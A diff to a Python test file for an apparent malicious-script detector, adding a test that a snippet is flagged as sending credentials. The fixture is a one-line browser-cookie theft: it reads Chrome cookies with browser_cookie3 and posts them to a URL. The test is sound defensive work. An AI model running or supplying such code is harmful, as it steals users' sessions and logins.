@@ -56,6 +56,15 @@ def test_listening_to_every_key_is_graver() -> None:
     assert severities(text, Language.PYTHON, "script-spies") == [Severity.HIGH]
 
 
+def test_what_a_browser_keeps_is_a_credential() -> None:
+    """Cookies that a library takes from a browser's profile are followed as the file itself would be."""
+    text = (
+        "import browser_cookie3, requests\nrequests.post(u, json={c.name: c.value for c in browser_cookie3.chrome()})"
+    )
+
+    assert severities(text, Language.PYTHON, "script-sends-credentials")
+
+
 @pytest.mark.parametrize("text", WALKED)
 def test_files_from_a_walk_through_the_home_are_followed(text: str) -> None:
     """What a walk through the home finds is followed to the call that sends it."""
